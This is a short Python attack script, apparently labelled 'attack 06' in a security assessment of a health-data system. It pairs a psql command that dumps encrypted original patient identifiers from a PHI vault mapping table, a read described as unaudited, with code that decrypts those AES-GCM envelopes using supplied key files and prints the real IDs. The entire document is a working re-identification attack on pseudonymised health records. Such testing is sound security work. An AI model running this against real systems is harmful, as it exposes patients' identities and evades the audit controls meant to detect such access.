#!/usr/bin/env python3
"""Decrypt envelope v1 rows read with no audit (attack 06): `psql -At -c "select anonymous_id,
encode(original_id_encrypted,'hex') from phi_vault.sample_id_mapping" | decrypt_envelopes.py KEYFILE...`"""
import base64, struct, sys
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
keys = [base64.b64decode(open(f).read().strip()) for f in sys.argv[1:]]
for line in sys.stdin:
    aid, hexenv = line.strip().split("|")
    env = bytes.fromhex(hexenv)
    head, nonce, body = env[:8], env[8:20], env[20:]
    aad = head + struct.pack(">I", len(body) - 16) + aid.encode()
    for k in keys:
        try:
            print(aid, AESGCM(k).decrypt(nonce, body, aad).decode()); break
        except Exception:
            pass
    else:
        print(aid, "<cannot open>")
